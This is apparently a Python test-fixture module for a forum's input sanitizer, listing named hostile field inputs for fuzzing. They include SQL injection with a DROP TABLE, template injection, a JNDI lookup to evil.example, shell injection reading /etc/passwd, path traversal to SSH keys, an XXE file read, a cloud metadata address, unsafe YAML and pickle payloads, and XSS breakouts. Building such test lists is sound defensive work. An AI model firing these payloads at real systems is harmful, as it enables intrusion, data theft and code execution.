"""What somebody with bad intent types into a field: a name for each class, and one of its kind.

Markup of many kinds comes from the sanitizer's own list; the rest is here.
"""

from __future__ import annotations

from pathlib import Path

MARKUP = Path(__file__).parents[1] / "forum" / "hostile_texts.txt"

OWN: dict[str, str] = {
    # Lines and headers
    "line feed": "a\nb",
    "carriage return": "a\rb",
    "header injection": "x\r\nSet-Cookie: session=1\r\nX-Odd: yes",
    "response splitting": "x\r\n\r\nHTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n",
    "header injection, encoded": "x%0d%0aSet-Cookie:%20a=b",
    "header injection, unicode": "x\u560d\u560aSet-Cookie: a=b",
    "line separator": "a\u2028b\u2029c",
    "next line": "a\u0085b",
    "log forging": "ok\n[ERROR] handrail: admin signed in\n",
    "mail header": "a\nBcc: everyone@example.org",
    # Templates and formats
    "template, double braces": "{{7*7}}",
    "template, statement": "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "template, comment": "{# x #}",
    "template, dollar": "${7*7}",
    "template, hash": "#{7*7}",
    "template, erb": "<%= 7*7 %>",
    "template, raw": "{% raw %}{{7*7}}{% endraw %}",
    "template, config": "{{config.items()}}{{self.__init__.__globals__}}",
    "format, percent": "%s%s%n%x%d",
    "format, braces": "{0.__class__.__mro__}{}",
    "format, python": "%(secret)s {secret!r}",
    "lookup": "${jndi:ldap://evil.example/a}",
    # Databases
    "sql, quote": "' OR '1'='1",
    "sql, drop": "'; DROP TABLE posts; --",
    "sql, union": "x' UNION SELECT words FROM messages --",
    "sql, like": "%_%",
    "sql, blob": "x'00ff'",
    "sql, backslash": "\\' OR 1=1 #",
    "nosql, operator": '{"$gt": ""}',
    "nosql, key": "$where: sleep(1000)",
    # Paths and addresses
    "path, up": "../../../../etc/passwd",
    "path, encoded": "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "path, twice encoded": "%252e%252e%252f",
    "path, windows": "..\\..\\C:\\con\\nul",
    "path, absolute": "/etc/passwd",
    "path, home": "~root/.ssh/id_rsa",
    "path, overlong": "\xc0\xae\xc0\xae/",
    "address, file": "file:///etc/passwd",
    "address, script": "javascript:alert(1)",
    "address, data": "data:text/html;base64,PHNjcmlwdD4=",
    "address, inside": "http://169.254.169.254/latest/meta-data/",
    "address, other origin": "//evil.example/",
    # Shells and other readers
    "shell, semicolon": "; cat /etc/passwd",
    "shell, backtick": "`id`",
    "shell, dollar": "$(id)",
    "shell, pipe": "| id &",
    "ldap": "*)(uid=*))(|(uid=*",
    "xpath": "' or count(/*)=1 or '",
    "xml entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "xml bomb": '<!DOCTYPE l [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]><l>&b;</l>',
    "spreadsheet formula": "=cmd|' /C calc'!A0",
    "yaml": "!!python/object/apply:os.system ['id']",
    "pickle": "cos\nsystem\n(S'id'\ntR.",
    "csv": '","",\n=1+1',
    "server side include": '<!--#exec cmd="id" -->',
    "markdown": "[x](javascript:alert(1)) ![y](//t.example/p.png)",
    # Names that mean something to a language
    "prototype": "__proto__",
    "constructor": "constructor.prototype.x",
    "dunder": "__class__.__init__.__globals__",
    "python name": "self",
    "true": "true",
    "null": "null",
    "undefined": "undefined",
    "not a number": "NaN",
    "infinity": "-Infinity",
    # Numbers
    "zero": "0",
    "minus": "-1",
    "fraction": "1.0",
    "exponent": "1e999",
    "hexadecimal": "0x7fffffff",
    "huge": "9" * 5_000,
    "other digits": "\u0661\u0662\u0663",
    "thirty-two bits": "2147483648",
    # Characters
    "nul": "a\0b",
    "nul alone": "\0",
    "control characters": "\x01\x02\x07\x08\x0b\x0c\x0e\x1b[31m\x7f",
    "byte order mark": "\ufeffstory",
    "right to left": "\u202estory\u202c",
    "isolates": "\u2066\u2067\u2068x\u2069",
    "zero width": "s\u200bt\u200co\u200dr\u2060y",
    "soft hyphen": "sto\u00adry",
    "combining": "e" + "\u0301" * 500,
    "zalgo": "s\u0335\u0321\u0300t\u0336o\u0334r\u0337y\u0338" * 50,
    "homoglyphs": "\u0455t\u043er\u0443 \u0430lc\u043ehol \u0440\u0430r\u0435nt",
    "fullwidth": "\uff53\uff54\uff4f\uff52\uff59 \uff1cscript\uff1e",
    "ligature": "\ufb01rst-\u017fteps",
    "case that grows": "\u0130\ufb03\u00df" * 100,
    "surrogate": "a\ud800b",
    "noncharacter": "\ufffe\uffff",
    "private use": "\ue000\U000f0000",
    "unassigned": "\U000e0001\U000e007f",
    "emoji family": "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 40,
    "flags": "\U0001f1fa\U0001f1f8" * 100,
    "braille and blanks": "\u2800\u3164\u115f\u00a0",
    "tags": "\U000e0061\U000e0062",
    # Shapes
    "json object": '{"kind": "story", "consent": true}',
    "json array": '["yes", ["yes"]]',
    "json, deep": "[" * 5_000,
    "form in a field": "yes&consent=yes&kind=letter",
    "array name": "a[]=1&a[b]=2",
    "semicolons": "a=1;b=2;;;",
    "percent": "%",
    "percent, broken": "%zz%u0041%",
    "quotes": "\"'`\u2018\u2019\u201c\u201d\u00ab\u00bb",
    "angle brackets": "<>" * 500,
    "attribute break": '" autofocus onfocus=alert(1) x="',
    "attribute break, single": "' onmouseover='alert(1)",
    "comment break": "--><script>alert(1)</script><!--",
    "textarea break": "</textarea></form><script>alert(1)</script>",
    "title break": "</title><script>alert(1)</script>",
    "base64": "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "token of another": "v1." + "A" * 76,
    "token without end": "v1" + "." * 300,
    "fernet of another": "gAAAAA" + "A" * 94,
    "receipt of homoglyphs": "\u043etter h\u0435ron p\u0430per l\u0430ntern m\u043ess riv\u0435r",
    "receipt of one word": "otter " * 6,
    "hash of another": "0" * 64,
    "id of another": "a" * 16,
    # Sizes
    "nothing": "",
    "spaces": " " * 300,
    "one letter": "x",
    "one word, long": "x" * 13_000,
    "repetition": "lol " * 12_000,
    "repetition that backtracks": "a" * 3_000 + "!",
    "repetition of digits": "1 2 3 " * 2_000,
    "repetition of tags": "<p>" * 3_000,
    "repetition of entities": "&amp;" * 2_000,
    "repetition of lines": "\n" * 9_000,
}


def markup() -> dict[str, str]:
    """Every fifth of the sanitizer's texts: one to a line, with Python's escapes."""
    lines = MARKUP.read_text("ascii").splitlines()[::5]
    return {f"markup, {line}": line.encode().decode("unicode_escape") for line in lines}


PAYLOADS = OWN | markup()
